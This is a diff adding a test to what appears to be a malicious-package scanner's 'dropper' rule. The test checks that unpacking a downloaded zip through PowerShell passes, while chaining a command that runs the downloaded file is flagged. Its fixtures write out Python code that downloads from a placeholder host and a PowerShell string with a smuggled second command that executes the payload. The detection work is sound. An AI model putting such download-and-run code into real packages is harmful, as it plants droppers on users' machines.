@@ -270,3 +270,22 @@ describe('a program that is fetched and started when somebody calls', () => {
     ]);
   });
 });
+
+test('unpacking what was downloaded, with PowerShell as well, is not starting it', async () => {
+  const file = (command: string) =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import subprocess',
+        'import requests',
+        'def fetch():',
+        "    with open('/opt/tool/driver.zip', 'wb') as f:",
+        "        f.write(requests.get('https://downloads.vendor.invalid/driver.zip').content)",
+        `    subprocess.run(['powershell', '-Command', ${JSON.stringify(command)}])`,
+      ),
+    });
+
+  expect(
+    await inspect('dropper', file('Expand-Archive -Path "/opt/tool/driver.zip" -DestinationPath out -Force')),
+  ).toEqual([]);
+  expect(await inspect('dropper', file('Expand-Archive /opt/tool/driver.zip; & /opt/tool/driver.zip'))).not.toEqual([]);
+});
